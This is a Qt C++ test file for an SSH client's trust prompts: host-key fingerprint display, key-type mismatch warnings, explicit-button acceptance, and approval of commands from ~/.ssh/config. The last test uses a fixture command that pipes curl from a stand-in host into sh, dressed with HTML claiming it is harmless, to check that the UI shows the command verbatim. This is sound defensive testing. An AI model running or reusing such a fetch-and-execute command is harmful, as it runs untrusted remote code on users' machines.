#include "ui/connect/HostKeyCard.h"
#include "TestHosts.h"
#include "ui/connect/CommandCard.h"

#include <QFontInfo>
#include <QFontMetrics>
#include <QLabel>
#include <QPushButton>
#include <QSignalSpy>
#include <QTest>

namespace porthole::ui {

/// The two questions that are about trust: a host's key, and a program that ~/.ssh/config wants to run.
class HostKeyCardTest : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void theWholeFingerprintIsShown();
    void thePictureIsWholeAndItsFrameCloses();
    void whereItIsRememberedIsSaid();
    void aKnownKeyOfAnotherTypeIsAWarning();
    void acceptingIsAButtonAndNothingElse();
    void theVeryCommandIsShown();

private:
    template <class Card> static QString text(const Card &card, const char *name)
    {
        return card.template findChild<QLabel *>(QLatin1String(name))->text();
    }
};

void HostKeyCardTest::theWholeFingerprintIsShown()
{
    HostKeyCard card;
    const HostKeyQuestion question = test::hostKeyQuestion();
    card.ask(question);
    QVERIFY(question.key.fingerprint().startsWith(QLatin1String("SHA256:")));
    QCOMPARE(text(card, "hostKeyFingerprint"), QStringLiteral("ssh-ed25519  ") + question.key.fingerprint());
    QVERIFY(text(card, "sentence").contains(QLatin1String("build-1.lab.example")));
    card.show();
    QVERIFY(QTest::qWaitForWindowExposed(&card));
    const auto *label = card.findChild<QLabel *>(QStringLiteral("hostKeyFingerprint"));
    QVERIFY(label->textInteractionFlags().testFlag(Qt::TextSelectableByKeyboard));
    QVERIFY(label->height() >= label->heightForWidth(label->width()));
}

void HostKeyCardTest::thePictureIsWholeAndItsFrameCloses()
{
    HostKeyCard card;
    card.ask(test::hostKeyQuestion());
    card.show();
    QVERIFY(QTest::qWaitForWindowExposed(&card));
    const auto *picture = card.findChild<QLabel *>(QStringLiteral("hostKeyPicture"));
    QCOMPARE(picture->text().split(u'\n').size(), 11);
    QVERIFY(QFontInfo(picture->font()).fixedPitch());
    QVERIFY(picture->height() >= picture->sizeHint().height());
    QVERIFY(picture->width() >= picture->sizeHint().width());
}

void HostKeyCardTest::whereItIsRememberedIsSaid()
{
    HostKeyCard card;
    QVERIFY(text(card, "hostKeyExplanation").contains(QLatin1String("known_hosts")));
    card.setRemembers(false);
    QVERIFY(!text(card, "hostKeyExplanation").contains(QLatin1String("known_hosts")));
    QVERIFY(text(card, "hostKeyExplanation").contains(QLatin1String("not remembered")));
}

void HostKeyCardTest::aKnownKeyOfAnotherTypeIsAWarning()
{
    HostKeyCard card;
    HostKeyQuestion question = test::hostKeyQuestion();
    card.ask(question);
    const auto *warning = card.findChild<QLabel *>(QStringLiteral("hostKeyWarning"));
    const auto *accept = card.findChild<QPushButton *>(QStringLiteral("acceptHostKey"));
    QVERIFY(warning->isHidden());
    QVERIFY(accept->property("primary").toBool());
    question.knownTypes = QStringList{QStringLiteral("ssh-rsa")};
    card.ask(question);
    QVERIFY(!warning->isHidden());
    QVERIFY(warning->text().contains(QLatin1String("ssh-rsa")));
    QVERIFY(accept->property("danger").toBool() && !accept->property("primary").toBool());
}

void HostKeyCardTest::acceptingIsAButtonAndNothingElse()
{
    HostKeyCard card;
    QSignalSpy accepted(&card, &HostKeyCard::accepted);
    QSignalSpy refused(&card, &HostKeyCard::refused);
    card.ask(test::hostKeyQuestion());
    card.show();
    QVERIFY(QTest::qWaitForWindowActive(&card));
    QVERIFY(!card.focusField());
    // Somebody types on: neither Enter nor Space is a yes.
    card.setFocus();
    for (const Qt::Key key : {Qt::Key_Return, Qt::Key_Space, Qt::Key_Y})
        QTest::keyClick(&card, key);
    QCOMPARE(accepted.count(), 0);
    auto *accept = card.findChild<QPushButton *>(QStringLiteral("acceptHostKey"));
    accept->setFocus();
    QTest::keyClick(accept, Qt::Key_Return);
    QCOMPARE(accepted.count(), 1);
    card.findChild<QPushButton *>(QStringLiteral("refuse"))->click();
    QCOMPARE(refused.count(), 1);
}

void HostKeyCardTest::theVeryCommandIsShown()
{
    CommandCard card;
    QSignalSpy allowed(&card, &CommandCard::allowed);
    CommandQuestion question;
    question.hop = test::hop();
    question.command = QStringLiteral("sh -c 'curl http://x/ | sh' # <b>harmless</b>");
    question.where = QStringLiteral("/home/ann/.ssh/config, line 12");
    card.ask(question);
    QCOMPARE(text(card, "command"), question.command);
    QVERIFY(text(card, "commandWhere").contains(QLatin1String("line 12")));
    QCOMPARE(allowed.count(), 0);
    card.findChild<QPushButton *>(QStringLiteral("allowCommand"))->click();
    QCOMPARE(allowed.count(), 1);
}

} // namespace porthole::ui

QTEST_MAIN(porthole::ui::HostKeyCardTest)
#include "HostKeyCardTest.moc"
